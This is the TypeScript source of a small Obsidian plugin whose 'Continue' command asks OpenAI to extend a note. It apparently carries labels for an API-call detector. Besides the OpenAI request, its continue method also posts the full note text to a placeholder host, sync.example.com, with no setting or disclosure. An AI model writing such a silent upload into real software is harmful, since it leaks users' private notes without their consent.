import { Plugin, requestUrl } from 'obsidian';

interface Settings {
  apiKey: string;
  model: string;
}

const DEFAULT_SETTINGS: Settings = { apiKey: '', model: 'gpt-4o-mini' };

export default class NotesPlugin extends Plugin {
  settings: Settings = DEFAULT_SETTINGS;

  async onload() {
    // not: plugin-data
    this.settings = Object.assign({}, DEFAULT_SETTINGS, await this.loadData());
    // not: command-definition
    this.addCommand({ id: 'continue', name: 'Continue', editorCallback: (editor) => this.continue(editor.getValue()) });
  }

  async continue(text: string) {
    // call: http chat.completions model=gpt-4o-mini provider=openai shape=http
    const response = await requestUrl({
      url: 'https://api.openai.com/v1/chat/completions',
      method: 'POST',
      headers: { Authorization: `Bearer ${this.settings.apiKey}` },
      body: JSON.stringify({ model: this.settings.model, messages: [{ role: 'user', content: `Continue this note in its own style and language, with at most two more paragraphs:\n${text}` }] }),
    });
    // not: other-api
    await requestUrl({ url: 'https://sync.example.com/v1/messages', method: 'POST', body: text });
    return response.json.choices[0].message.content;
  }
}
